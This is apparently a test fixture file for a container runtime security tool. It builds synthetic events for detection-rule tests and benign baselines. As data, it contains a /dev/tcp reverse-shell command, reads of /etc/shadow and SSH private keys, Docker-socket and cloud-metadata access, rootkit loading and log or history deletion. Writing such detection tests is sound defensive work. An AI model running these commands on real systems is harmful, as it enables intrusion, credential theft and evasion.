/**
 * Hand-built RuntimeEvents for the attack scenarios of the default rules and for benign
 * activity. They are written in Bulwark's own event schema (what the live sensor
 * emits) so rule tests do not depend on a kernel; the live sensor's own tests run the
 * same scenarios in real containers.
 */
import {
  RUNTIME_EVENT_SCHEMA,
  type ContainerInfo,
  type EventBase,
  type ProcessInfo,
  type RuntimeEvent,
} from "../events/types.js";

export const WEB_CONTAINER: ContainerInfo = {
  id: "3f4e5d6c7b8a",
  name: "web",
  image: "docker.io/library/nginx:1.25",
  imageDigest: "sha256:aa11bb22cc33dd44ee55ff6600112233445566778899aabbccddeeff00112233",
  runtime: "runc",
};

let clock = Date.parse("2026-12-01T10:00:00Z");

function proc(name: string, args: string[], over: Partial<ProcessInfo> = {}): ProcessInfo {
  return {
    pid: 4242,
    ppid: 4200,
    name,
    exe: name,
    exePath: `/usr/bin/${name}`,
    args,
    uid: 0,
    gid: 0,
    userName: "root",
    ancestors: [
      { pid: 4200, name: "nginx", exe: "/usr/sbin/nginx" },
      { pid: 1, name: "runc:[2:INIT]" },
    ],
    ...over,
  };
}

function at(process: ProcessInfo, container: ContainerInfo = WEB_CONTAINER, syscall?: string): EventBase {
  clock += 1000;
  return {
    schema: RUNTIME_EVENT_SCHEMA,
    time: new Date(clock).toISOString(),
    source: "replay",
    syscall,
    process,
    container,
    hostname: "node-1",
  };
}

const sh = (over: Partial<ProcessInfo> = {}): ProcessInfo =>
  proc("bash", [], { exePath: "/bin/bash", ...over });

/** Each scenario: the events it produces and the default rule that must fire. */
export const ATTACKS: Array<{ rule: string; events: RuntimeEvent[] }> = [
  {
    rule: "Terminal Shell in Container",
    events: [{ ...at(sh({ tty: 34816, ancestors: [{ pid: 1, name: "runc:[2:INIT]" }] })), type: "exec" }],
  },
  { rule: "Shell Spawned by Web Server", events: [{ ...at(sh({ args: ["-c", "id"] })), type: "exec" }] },
  {
    rule: "Reverse Shell Redirect",
    events: [
      {
        ...at(sh(), WEB_CONTAINER, "dup2"),
        type: "dup",
        oldFd: 3,
        newFd: 0,
        fdKind: "socket",
        family: "ipv4",
        remote: { ip: "203.0.113.9", port: 4444 },
        result: 0,
      },
    ],
  },
  {
    rule: "Reverse Shell via Dev TCP",
    events: [{ ...at(sh({ args: ["-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"] })), type: "exec" }],
  },
  {
    rule: "Crypto Miner Process",
    events: [{ ...at(proc("xmrig", ["--donate-level", "1"], { exePath: "/tmp/xmrig" })), type: "exec" }],
  },
  {
    rule: "Crypto Miner Stratum Arguments",
    events: [{ ...at(proc("miner", ["-o", "stratum+tcp://pool.example:3333"])), type: "exec" }],
  },
  {
    rule: "Connection to Mining Pool Port",
    events: [
      {
        ...at(proc("miner", [])),
        type: "connect",
        family: "ipv4",
        protocol: "tcp",
        local: { ip: "10.0.0.5", port: 40000 },
        remote: { ip: "198.51.100.7", port: 3333 },
        result: 0,
      },
    ],
  },
  {
    rule: "Drift Executable Not in Image",
    events: [
      { ...at(proc("payload", [], { exePath: "/usr/local/bin/payload", exeInImage: false })), type: "exec" },
    ],
  },
  {
    rule: "Drift Executable Written After Start",
    events: [{ ...at(proc("dropper", [], { exePath: "/srv/dropper", exeUpperLayer: true })), type: "exec" }],
  },
  {
    rule: "Read Sensitive File",
    events: [
      {
        ...at(proc("cat", ["/etc/shadow"])),
        type: "open",
        path: "/etc/shadow",
        access: "read",
        flags: ["O_RDONLY"],
        fd: 3,
        result: 3,
      },
    ],
  },
  {
    rule: "Read SSH Private Key",
    events: [
      {
        ...at(proc("cat", ["/root/.ssh/id_ed25519"])),
        type: "open",
        path: "/root/.ssh/id_ed25519",
        access: "read",
        flags: ["O_RDONLY"],
        fd: 3,
      },
    ],
  },
  {
    rule: "Write Below Etc",
    events: [
      {
        ...at(proc("tee", ["/etc/motd"])),
        type: "open",
        path: "/etc/motd",
        access: "write",
        flags: ["O_WRONLY", "O_CREAT", "O_TRUNC"],
        fd: 3,
      },
    ],
  },
  {
    rule: "Write Below Binary Directory",
    events: [
      {
        ...at(proc("cp", ["x", "/usr/bin/ls"])),
        type: "open",
        path: "/usr/bin/ls",
        access: "write",
        flags: ["O_WRONLY", "O_CREAT"],
        fd: 3,
      },
    ],
  },
  {
    rule: "Setuid Bit Set",
    events: [
      {
        ...at(proc("chmod", ["u+s", "/tmp/x"]), WEB_CONTAINER, "fchmodat"),
        type: "chmod",
        path: "/tmp/x",
        mode: 0o4755,
        result: 0,
      },
    ],
  },
  {
    rule: "Setuid to Root from Non-Root",
    events: [
      {
        ...at(proc("exploit", [], { uid: 1000, userName: "www-data" })),
        type: "setuid",
        targetId: 0,
        result: 0,
      },
    ],
  },
  {
    rule: "Ptrace Attach",
    events: [{ ...at(proc("injector", [])), type: "ptrace", request: "PTRACE_ATTACH", targetPid: 1 }],
  },
  {
    rule: "Mount in Container",
    events: [
      {
        ...at(proc("mount", ["/dev/sda1", "/mnt"])),
        type: "mount",
        device: "/dev/sda1",
        target: "/mnt",
        fsType: "ext4",
        result: 0,
      },
    ],
  },
  {
    rule: "Nsenter Executed",
    events: [{ ...at(proc("nsenter", ["-t", "1", "-m", "-u", "-i", "-n", "sh"])), type: "exec" }],
  },
  {
    rule: "Unshare in Container",
    events: [
      { ...at(proc("unshare", ["-r"])), type: "unshare", namespaces: ["CLONE_NEWUSER", "CLONE_NEWNS"] },
    ],
  },
  {
    rule: "Container Runtime Socket Access",
    events: [
      {
        ...at(proc("curl", ["--unix-socket", "/var/run/docker.sock", "http://x/containers/json"])),
        type: "connect",
        family: "unix",
        protocol: "unknown",
        unixPath: "/var/run/docker.sock",
        result: 0,
      },
    ],
  },
  {
    rule: "Kernel Module Loaded",
    events: [{ ...at(proc("insmod", ["rootkit.ko"])), type: "module_load", name: "rootkit", result: 0 }],
  },
  {
    rule: "Execution from Memory File",
    events: [
      { ...at(proc("3", [], { exePath: "/memfd:payload (deleted)", exeFromMemfd: true })), type: "exec" },
    ],
  },
  {
    rule: "Execution from Dev Shm",
    events: [{ ...at(proc("x", [], { exePath: "/dev/shm/x" })), type: "exec" }],
  },
  {
    rule: "Cloud Metadata Service Access",
    events: [
      {
        ...at(proc("curl", ["http://169.254.169.254/latest/meta-data/"])),
        type: "connect",
        family: "ipv4",
        protocol: "tcp",
        local: { ip: "10.0.0.5", port: 41000 },
        remote: { ip: "169.254.169.254", port: 80 },
        result: 0,
      },
    ],
  },
  {
    rule: "Package Manager in Running Container",
    events: [{ ...at(proc("apt-get", ["install", "-y", "nmap"])), type: "exec" }],
  },
  {
    rule: "Clear Log Files",
    events: [
      {
        ...at(proc("truncate", ["-s0", "/var/log/auth.log"])),
        type: "open",
        path: "/var/log/auth.log",
        access: "write",
        flags: ["O_WRONLY", "O_TRUNC"],
        fd: 3,
      },
    ],
  },
  {
    rule: "Delete Shell History",
    events: [
      { ...at(proc("rm", ["/root/.bash_history"])), type: "unlink", path: "/root/.bash_history", result: 0 },
    ],
  },
  {
    rule: "BPF Program Loaded in Container",
    events: [{ ...at(proc("loader", [])), type: "bpf", command: "BPF_PROG_LOAD", result: 5 }],
  },
];

/** Benign activity of a web server and a batch job: must raise nothing. */
export function benignEvents(): RuntimeEvent[] {
  const nginx = proc("nginx", ["-g", "daemon off;"], {
    exePath: "/usr/sbin/nginx",
    ancestors: [{ pid: 1, name: "runc:[2:INIT]" }],
    exeInImage: true,
  });
  const job = proc("python3", ["/app/batch.py"], {
    exePath: "/usr/bin/python3",
    uid: 1000,
    userName: "app",
    exeInImage: true,
  });
  return [
    { ...at(nginx), type: "exec" },
    {
      ...at(nginx),
      type: "open",
      path: "/usr/share/nginx/html/index.html",
      access: "read",
      flags: ["O_RDONLY"],
      fd: 12,
    },
    {
      ...at(nginx),
      type: "open",
      path: "/var/log/nginx/access.log",
      access: "write",
      flags: ["O_WRONLY", "O_APPEND", "O_CREAT"],
      fd: 4,
    },
    { ...at(nginx), type: "listen", family: "ipv4", protocol: "tcp", local: { ip: "0.0.0.0", port: 80 } },
    {
      ...at(nginx),
      type: "accept",
      family: "ipv4",
      protocol: "tcp",
      local: { ip: "10.0.0.5", port: 80 },
      remote: { ip: "10.0.0.9", port: 51234 },
      result: 13,
    },
    { ...at(job), type: "exec" },
    { ...at(job), type: "open", path: "/data/input.csv", access: "read", flags: ["O_RDONLY"], fd: 3 },
    {
      ...at(job),
      type: "open",
      path: "/tmp/out.csv",
      access: "write",
      flags: ["O_WRONLY", "O_CREAT"],
      fd: 4,
    },
    {
      ...at(job),
      type: "connect",
      family: "ipv4",
      protocol: "tcp",
      local: { ip: "10.0.0.5", port: 45000 },
      remote: { ip: "10.0.0.20", port: 5432 },
      result: 0,
    },
    { ...at(job), type: "exit", exitCode: 0 },
  ];
}
